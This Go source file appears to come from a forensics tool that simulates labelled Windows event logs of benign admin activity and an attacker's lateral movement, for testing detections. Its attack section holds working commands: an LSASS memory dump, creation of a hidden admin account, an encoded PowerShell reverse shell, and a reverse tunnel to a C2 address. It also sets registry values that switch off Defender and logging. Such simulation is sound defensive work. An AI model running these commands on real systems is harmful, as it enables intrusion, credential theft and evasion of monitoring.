package simulate

import (
	"fmt"
	"strings"
	"time"

	"github.com/spoor-dfir/spoor/internal/pwsh"
)

// Benign look-alikes of the lateral-movement tradecraft, in normal life:
// a monitoring agent's service, a software-deployment tool that copies
// its runner through ADMIN$ and installs it as a service, the in-house
// admin's scheduled tasks, the RMM agent's run-as-user tasks (created and
// deleted within seconds) and per-user autostarts from AppData. They draw
// from their own random stream so the rest of normal life is unchanged.

const (
	monitorImage = `"C:\Program Files\Monitoring\agent\monagent.exe" -service`
	deployImage  = `C:\Windows\DeployAgent\Runner\service-1\exec\DeployRunner-1.exe`
)

var deployPackages = []string{"7zip-23.01-x64.msi", "AcroRdrDCx64.msi", "FoxitPDFReader.msi", "Notepad++-8.6.msi", "VLC-3.0.20-win64.msi"}

var adminTasks = []struct{ name, cmd, args string }{
	{`\Breisgau\Cleanup-Temp`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `-NoProfile -ExecutionPolicy Bypass -File D:\Scripts\cleanup-temp.ps1`},
	{`\Breisgau\Export-ADReport`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `-NoProfile -File D:\Scripts\ad-report.ps1 -Out \\FS01\IT$\Reports`},
	{`\Breisgau\Restart-Spooler`, `C:\Windows\System32\cmd.exe`, `/c net stop spooler &amp; net start spooler`},
	{`\Breisgau\Robocopy-Scans`, `C:\Windows\System32\Robocopy.exe`, `D:\Scans \\FS01\Scans$ /MIR /R:1 /W:5`},
}

// lookalikes adds the day's benign look-alikes.
func (g *gen) lookalikes(day time.Time) {
	main := g.r
	g.r = g.la
	defer func() { g.r = main }()
	co := g.co
	work := co.workday(day)
	first := !day.Add(-24 * time.Hour).After(co.start.In(co.loc))
	servers := co.hosts[:5]
	// The monitoring agent: installed on every server on the first day,
	// reinstalled by its updater every fortnight.
	if first || (work && day.YearDay()%14 == 0) {
		for _, h := range servers {
			t := co.at(day, 10*60+g.r.IntN(120), g.r.IntN(60))
			if g.inPeriod(t) {
				g.service7045(h, t, "Monitoring Agent", monitorImage, "LocalSystem")
			}
		}
	}
	if !work {
		return
	}
	adm := co.itAdmin
	admPC := co.hosts[5]
	// Software deployment to a few clients: the runner is copied through
	// ADMIN$ from the admin's PC, installed as a service and runs msiexec.
	if g.r.IntN(8) == 0 && len(co.hosts) > 6 {
		pkg := deployPackages[g.r.IntN(len(deployPackages))]
		t := co.at(day, 10*60+g.r.IntN(6*60), g.r.IntN(60))
		for _, i := range g.r.Perm(len(co.hosts) - 5)[:min(len(co.hosts)-5, 2+g.r.IntN(4))] {
			h := co.hosts[5+i]
			if !g.inPeriod(t) {
				break
			}
			who := adm.as(h.logonID(g.r))
			g.logon4624(h, t, who, 3, admPC.ip, admPC.name)
			g.share5145(h, t.Add(time.Second), who, admPC.ip, `\\*\ADMIN$`, `\??\C:\Windows`, `DeployAgent\Runner\service-1\exec\DeployRunner-1.exe`)
			g.service7045(h, t.Add(3*time.Second), "DeployRunner-1", deployImage, "LocalSystem")
			runner := proc{pid: h.pid(g.r), image: deployImage, cmdline: deployImage, guid: guid(g.r)}
			msi := proc{pid: h.pid(g.r), image: `C:\Windows\System32\msiexec.exe`, cmdline: `"C:\Windows\System32\msiexec.exe" /i "C:\Windows\DeployAgent\Runner\service-1\files\` + pkg + `" /qn /norestart`, guid: guid(g.r)}
			g.process4688(h, t.Add(5*time.Second), h.system(), msi, runner)
			g.logoff4634(h, t.Add(time.Duration(60+g.r.IntN(240))*time.Second), who, 3)
			t = t.Add(time.Duration(20+g.r.IntN(90)) * time.Second)
		}
	}
	// The in-house admin schedules a maintenance task on a server.
	if g.r.IntN(10) == 0 {
		h := servers[g.r.IntN(len(servers))]
		t := co.at(day, 9*60+g.r.IntN(7*60), g.r.IntN(60))
		if g.inPeriod(t) {
			at := adminTasks[g.r.IntN(len(adminTasks))]
			who := adm.as(h.logonID(g.r))
			eid := uint16(4698)
			if g.r.IntN(3) == 0 {
				eid = 4702
			}
			args := strings.ReplaceAll(at.args, "&amp;", "&")
			g.task46xx(h, t, eid, who, at.name, taskXML(domainNB+`\`+adm.name, domainNB+`\`+adm.name, at.cmd, args, false))
		}
	}
	// The RMM agent runs a job as the logged-on user through a temporary
	// task, deleted as soon as it has started.
	if g.r.IntN(6) == 0 && len(co.hosts) > 5 {
		h := co.hosts[5+g.r.IntN(len(co.hosts)-5)]
		t := co.at(day, 9*60+g.r.IntN(8*60), g.r.IntN(60))
		if g.inPeriod(t) && h.user != nil {
			name := `\ScreenConnect Run As ` + strings.Trim(guid(g.r), "{}")[:8]
			client := `C:\Program Files (x86)\ScreenConnect Client (` + scInstance + `)\ScreenConnect.WindowsClient.exe`
			g.task46xx(h, t, 4698, h.system(), name, taskXML(`NT AUTHORITY\SYSTEM`, domainNB+`\`+h.user.name, client, `"RunRole" "`+uuid(g.r)+`" "User"`, true))
			g.task46xx(h, t.Add(time.Duration(3+g.r.IntN(10))*time.Second), 4699, h.system(), name, "")
		}
	}
	// A user's chat client registers its updater to start at logon.
	if g.r.IntN(5) == 0 && len(co.hosts) > 5 {
		h := co.hosts[5+g.r.IntN(len(co.hosts)-5)]
		t := co.at(day, 8*60+g.r.IntN(8*60), g.r.IntN(60))
		if g.inPeriod(t) && h.user != nil {
			upd := `C:\Users\` + h.user.name + `\AppData\Local\Microsoft\Teams\Update.exe`
			p := proc{pid: h.pid(g.r), image: upd, guid: guid(g.r)}
			g.sysmon13(h, t, domainNB+`\`+h.user.name, p, `HKU\S-1-5-21-`+strings.TrimPrefix(h.user.sid, co.domainSID+"-")+`\Software\Microsoft\Windows\CurrentVersion\Run\com.squirrel.Teams.Teams`,
				upd+` --processStart "Teams.exe" --process-start-args "--system-initiated"`)
		}
	}
}

// lateral: from the RMM session on the file server the attacker moves on
// with the provider's admin account — RPC enumeration of the first domain
// controller, a renamed PsExec to the ERP server (discovery and a hidden
// local admin), wmiexec to the second domain controller (discovery and an
// LSASS dump), WinRM and atexec to the backup server —, leaves a service on the file server that runs an encoded
// PowerShell payload and backdoors that survive a password reset (SID
// history, DSRM, accessibility binaries: backdoor.go), comes back over RDP
// through a reverse tunnel (trying the utilman.exe shell at the logon
// screen first), and switches Sysmon off before leaving.
func (g *gen) lateral(s *session) {
	co, src := g.co, s.h
	op := co.ops[0] // ct-admin-mueller, the session's technician
	t := g.sessEnd[s].Add(20 * time.Second)
	lbl := func(h *host, kind, det, detail string, es ...*entry) {
		for _, e := range es {
			if e == nil {
				continue
			}
			l := g.c.label(&Label{Kind: kind, Host: h.name, Time: e.t, SessionID: s.id, Detection: det, Detail: detail})
			mark(l, e)
		}
	}
	svcName := []string{"SvcHelper", "WinUpdHelper", "MsDiagSvc", "PerfHostSvc"}[g.r.IntN(4)]
	bin := strings.ToLower(svcName) + ".exe"
	var who principal
	// 0. Enumerate the first domain controller over RPC pipes (SAMR,
	// LSARPC, SRVSVC, WKSSVC), as net view and NetExec do.
	dc1 := co.host("DC01")
	lbl(src, "lateral_command", "rmmsessions", "RPC enumeration tool run from the RMM session",
		g.rmmCommand(src, t, s, `C:\Windows\Temp\nxc.exe smb DC01 -u `+op.acct.name+` --shares --sessions --users`, false)...)
	who = op.acct.as(dc1.logonID(g.r))
	g.logon4624(dc1, t.Add(2*time.Second), who, 3, src.ip, src.name)
	pt0 := t.Add(3 * time.Second)
	for _, p := range []string{"lsarpc", "samr", "srvsvc", "wkssvc"} {
		lbl(dc1, "remote_enum", "psrecon", "RPC pipe "+p+" opened from "+src.ip, g.share5145(dc1, pt0, who, src.ip, `\\*\IPC$`, "", p))
		pt0 = pt0.Add(time.Duration(300+g.r.IntN(1500)) * time.Millisecond)
	}
	g.logoff4634(dc1, pt0.Add(5*time.Second), who, 3)
	t = pt0.Add(time.Duration(30+g.r.IntN(60)) * time.Second)

	// 1. Renamed PsExec to ERP01.
	erp := co.host("ERP01")
	cmd := `C:\Windows\Temp\` + bin + ` \\ERP01 -accepteula -s -r ` + strings.ToLower(svcName) + ` cmd /c "whoami /all & ipconfig /all & net localgroup administrators"`
	lbl(src, "lateral_command", "rmmsessions", "remote execution tool run from the RMM session", g.rmmCommand(src, t, s, cmd, false)...)
	t = t.Add(3 * time.Second)
	who = op.acct.as(erp.logonID(g.r))
	g.logon4624(erp, t, who, 3, src.ip, src.name)
	lbl(erp, "lateral_service", "persistence", "service binary copied to ADMIN$", g.share5145(erp, t.Add(time.Second), who, src.ip, `\\*\ADMIN$`, `\??\C:\Windows`, bin))
	lbl(erp, "lateral_service", "persistence", "PsExec-style service "+svcName, g.service7045(erp, t.Add(2*time.Second), svcName, `%SystemRoot%\`+bin, "LocalSystem"))
	svcProc := proc{pid: erp.pid(g.r), image: `C:\Windows\` + bin, cmdline: `C:\Windows\` + bin, guid: guid(g.r)}
	services := proc{pid: erp.svcPID - 300, image: `C:\Windows\System32\services.exe`, cmdline: `C:\Windows\system32\services.exe`, guid: "{6F1A3C9E-0001-6543-0B00-000000000A00}"}
	g.service7036(erp, t.Add(3*time.Second), svcName, "running")
	lbl(erp, "lateral_service", "persistence", "service binary started", g.process4688(erp, t.Add(3*time.Second), erp.system(), svcProc, services))
	c := proc{pid: erp.pid(g.r), image: `C:\Windows\System32\cmd.exe`, cmdline: `cmd /c "whoami /all & ipconfig /all & net localgroup administrators"`, guid: guid(g.r)}
	pt := t.Add(4 * time.Second)
	lbl(erp, "remote_recon", "psrecon", "discovery run by the PsExec-style service", g.process4688(erp, pt, erp.system(), c, svcProc), g.sysmon1(erp, pt, `NT AUTHORITY\SYSTEM`, c, svcProc))
	n1 := proc{pid: erp.pid(g.r), image: `C:\Windows\System32\net1.exe`, cmdline: `C:\Windows\system32\net1 localgroup administrators`, guid: guid(g.r)}
	lbl(erp, "remote_recon", "psrecon", "Administrators enumerated by net1.exe", g.enum4799(erp, pt.Add(300*time.Millisecond), erp.system(), "Administrators", "S-1-5-32-544", n1.image, n1.pid))
	// A hidden local administrator ("$" keeps it out of net user).
	hid := &account{name: []string{"helpdesk$", "support$", "wsus$"}[g.r.IntN(3)], display: "", sid: fmt.Sprintf("S-1-5-21-%d-%d-%d-1009", 1000000000+g.r.IntN(2000000000), 1000000000+g.r.IntN(2000000000), 1000000000+g.r.IntN(2000000000))}
	hid.display = hid.name
	pt = pt.Add(6 * time.Second)
	add := proc{pid: erp.pid(g.r), image: `C:\Windows\System32\cmd.exe`, cmdline: `cmd /c "net user ` + hid.name + ` Winter2026! /add & net localgroup administrators ` + hid.name + ` /add"`, guid: guid(g.r)}
	lbl(erp, "new_admin", "newadmin", "hidden local admin created through the service", g.process4688(erp, pt, erp.system(), add, svcProc))
	lbl(erp, "new_admin", "newadmin", "hidden local account created", g.userAcct(erp, pt.Add(time.Second), 4720, hid, erp.system()))
	lbl(erp, "new_admin", "newadmin", "hidden account added to Administrators", g.groupAdd(erp, pt.Add(2*time.Second), 4732, hid, "Administrators", "S-1-5-32-544", erp.system()))
	g.service7036(erp, t.Add(40*time.Second), svcName, "stopped")
	g.logoff4634(erp, t.Add(45*time.Second), who, 3)

	// 2. wmiexec to DC02.
	t = t.Add(time.Duration(90+g.r.IntN(120)) * time.Second)
	lbl(src, "lateral_command", "rmmsessions", "WMI execution tool run from the RMM session",
		g.rmmCommand(src, t, s, `python.exe C:\Windows\Temp\w.py CORP/`+op.acct.name+`@DC02 -hashes :`+fmt.Sprintf("%032x", g.r.Uint64()), false)...)
	dc := co.host("DC02")
	who = op.acct.as(dc.logonID(g.r))
	g.logon4624(dc, t.Add(2*time.Second), who, 3, src.ip, src.name)
	wmi := proc{pid: dc.pid(g.r), image: `C:\Windows\System32\wbem\WmiPrvSE.exe`, cmdline: `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, guid: guid(g.r)}
	stamp := fmt.Sprintf("__%d.%07d", t.Unix()-3, g.r.IntN(10000000))
	ct := t.Add(4 * time.Second)
	lsass := proc{pid: dc.lsassPID, image: `C:\Windows\system32\lsass.exe`, guid: "{6F1A3C9E-0003-6543-0D00-000000000A00}"}
	dump := `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump ` + fmt.Sprint(dc.lsassPID) + ` C:\Windows\Temp\` + randLetters(g, 6) + `.dmp full`
	for _, q := range []string{`cd \`, `nltest /domain_trusts`, `net group "Domain Admins" /domain`, `quser`, dump} {
		p := proc{pid: dc.pid(g.r), image: `C:\Windows\System32\cmd.exe`, cmdline: `cmd.exe /Q /c ` + q + ` 1> \\127.0.0.1\ADMIN$\` + stamp + ` 2>&1`, guid: guid(g.r)}
		lbl(dc, "remote_wmi", "psrecon", "wmiexec: "+q, g.process4688(dc, ct, principal{"S-1-5-20", dc.name + "$", domainNB, "0x3E4"}, p, wmi))
		if q == dump {
			r := proc{pid: dc.pid(g.r), image: `C:\Windows\System32\rundll32.exe`, cmdline: dump, guid: guid(g.r)}
			lbl(dc, "credential_dump", "psrecon", "comsvcs MiniDump of LSASS", g.process4688(dc, ct.Add(50*time.Millisecond), principal{"S-1-5-20", dc.name + "$", domainNB, "0x3E4"}, r, p),
				g.sysmon10(dc, ct.Add(200*time.Millisecond), r, lsass, "0x1FFFFF", domainNB+`\`+op.acct.name))
		}
		ct = ct.Add(time.Duration(5+g.r.IntN(30)) * time.Second)
	}
	g.logoff4634(dc, ct.Add(10*time.Second), who, 3)

	// 3. atexec to BACKUP01: a task created, run and deleted.
	t = ct.Add(time.Duration(60+g.r.IntN(120)) * time.Second)
	lbl(src, "lateral_command", "rmmsessions", "task execution tool run from the RMM session",
		g.rmmCommand(src, t, s, `python.exe C:\Windows\Temp\a.py CORP/`+op.acct.name+`@BACKUP01 "tasklist /v"`, false)...)
	bk := co.host("BACKUP01")
	// WinRM first: a remote shell's commands run under wsmprovhost.
	who = op.acct.as(bk.logonID(g.r))
	g.logon4624(bk, t.Add(2*time.Second), who, 3, src.ip, src.name)
	wsm := proc{pid: bk.pid(g.r), image: `C:\Windows\System32\wsmprovhost.exe`, cmdline: `C:\Windows\system32\wsmprovhost.exe -Embedding`, guid: guid(g.r)}
	wt := t.Add(4 * time.Second)
	for _, q := range []struct{ img, cmd string }{{`C:\Windows\System32\HOSTNAME.EXE`, `"C:\Windows\system32\HOSTNAME.EXE"`}, {`C:\Windows\System32\ipconfig.exe`, `"C:\Windows\system32\ipconfig.exe" /all`}} {
		p := proc{pid: bk.pid(g.r), image: q.img, cmdline: q.cmd, guid: guid(g.r)}
		lbl(bk, "remote_winrm", "psrecon", "WinRM: "+q.cmd, g.process4688(bk, wt, who, p, wsm), g.sysmon1(bk, wt, domainNB+`\`+op.acct.name, p, wsm))
		wt = wt.Add(time.Duration(3+g.r.IntN(10)) * time.Second)
	}
	t = wt.Add(10 * time.Second)
	task := `\` + randLetters(g, 8)
	out := `C:\Windows\Temp\` + randLetters(g, 8) + `.tmp`
	xml := taskXML(domainNB+`\`+op.acct.name, "S-1-5-18", "cmd.exe", `/C tasklist /v > `+out+` 2>&1`, true)
	lbl(bk, "remote_task", "persistence", "task created over the network: "+task, g.task46xx(bk, t.Add(3*time.Second), 4698, who, task, xml))
	sch := proc{pid: bk.svcPID + 8, image: `C:\Windows\System32\svchost.exe`, cmdline: `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, guid: "{6F1A3C9E-0002-6543-0C00-000000000A00}"}
	tp := proc{pid: bk.pid(g.r), image: `C:\Windows\System32\cmd.exe`, cmdline: `cmd.exe /C tasklist /v > ` + out + ` 2>&1`, guid: guid(g.r)}
	lbl(bk, "remote_task", "persistence", "task action", g.process4688(bk, t.Add(5*time.Second), bk.system(), tp, sch))
	lbl(bk, "remote_task", "persistence", "task deleted", g.task46xx(bk, t.Add(time.Duration(7+g.r.IntN(8))*time.Second), 4699, who, task, ""))
	g.logoff4634(bk, t.Add(20*time.Second), who, 3)

	// 4. A service on the file server that starts an encoded PowerShell
	// payload at boot.
	t = t.Add(time.Duration(60+g.r.IntN(90)) * time.Second)
	payload := "$c=New-Object Net.Sockets.TCPClient('" + c2IP + "',443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){;$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$s.Write([text.encoding]::ASCII.GetBytes($r),0,$r.Length)}"
	enc := pwsh.Encode(payload)
	pname := []string{"WinDefendUpdate", "EdgeUpdateSvc", "OneSyncHelper"}[g.r.IntN(3)]
	img := `%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -enc ` + enc
	lbl(src, "lateral_command", "rmmsessions", "service created from the RMM session",
		g.rmmCommand(src, t, s, `sc.exe create `+pname+` binPath= "`+img+`" start= auto`, false)...)
	lbl(src, "persistence_service", "persistence", "service running an encoded PowerShell payload", g.service7045(src, t.Add(3*time.Second), pname, img, "LocalSystem"))

	// 5. Blind the file server: PowerShell script block logging and
	// Defender's real-time protection off in the registry. Single events
	// a rule catches: labelled with the rule's id.
	t = t.Add(time.Duration(30+g.r.IntN(60)) * time.Second)
	reg := proc{pid: src.pid(g.r), image: `C:\Windows\System32\reg.exe`, guid: guid(g.r)}
	for _, v := range []struct{ rule, key, val string }{
		{"powershell-logging-disabled", `HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging\EnableScriptBlockLogging`, "DWORD (0x00000000)"},
		{"defender-disabled", `HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring`, "DWORD (0x00000001)"},
	} {
		lbl(src, "defense_evasion", "rule:"+v.rule, v.key, g.sysmon13(src, t, `NT AUTHORITY\SYSTEM`, reg, v.key, v.val))
		t = t.Add(time.Duration(2+g.r.IntN(5)) * time.Second)
	}

	// 5b. Backdoors that survive a password reset: SID history, DSRM,
	// accessibility binaries.
	t = g.backdoors(s, t.Add(time.Duration(30+g.r.IntN(60))*time.Second), lbl)

	// 6. A reverse tunnel, and RDP to the file server through it: the
	// logon arrives from the loopback address. At the logon screen the
	// attacker first tries the utilman.exe backdoor.
	t = t.Add(time.Duration(60+g.r.IntN(60)) * time.Second)
	lbl(src, "lateral_command", "rmmsessions", "tunnel started from the RMM session",
		g.rmmCommand(src, t, s, `C:\ProgramData\ssh\svcssh.exe -N -R 33890:127.0.0.1:3389 tunnel@`+c2IP+` -p 443`, false)...)
	t = g.logonScreenShell(s, t.Add(time.Duration(20+g.r.IntN(30))*time.Second), lbl)
	who = op.acct.as(src.logonID(g.r))
	lbl(src, "rdp_tunnel", "lateral", "RDP from loopback", g.rdp1149(src, t, op.acct.name, "127.0.0.1"))
	lbl(src, "rdp_tunnel", "lateral", "RDP logon from loopback", g.logon4624(src, t.Add(2*time.Second), who, 10, "127.0.0.1", src.name))
	g.special4672(src, t.Add(2*time.Second), who)
	lbl(src, "rdp_tunnel", "lateral", "RDP session from loopback", g.lsm(src, t.Add(3*time.Second), 21, op.acct.name, "127.0.0.1", 3))
	end := t.Add(time.Duration(4+g.r.IntN(6)) * time.Minute)
	g.lsm(src, end, 23, op.acct.name, "", 3)
	g.logoff4634(src, end, who, 10)
	// 7. Before leaving: Sysmon off on the file server.
	g.blindSysmon(s, end.Add(time.Duration(20+g.r.IntN(40))*time.Second), lbl)
	g.sessEnd[s] = end.Add(time.Duration(2+g.r.IntN(3)) * time.Minute)
}

// randLetters is a random lower-case word, as attack tools name tasks
// and output files.
func randLetters(g *gen, n int) string {
	b := make([]byte, n)
	for i := range b {
		c := byte('a' + g.r.IntN(26))
		if g.r.IntN(2) == 0 {
			c -= 'a' - 'A'
		}
		b[i] = c
	}
	return string(b)
}
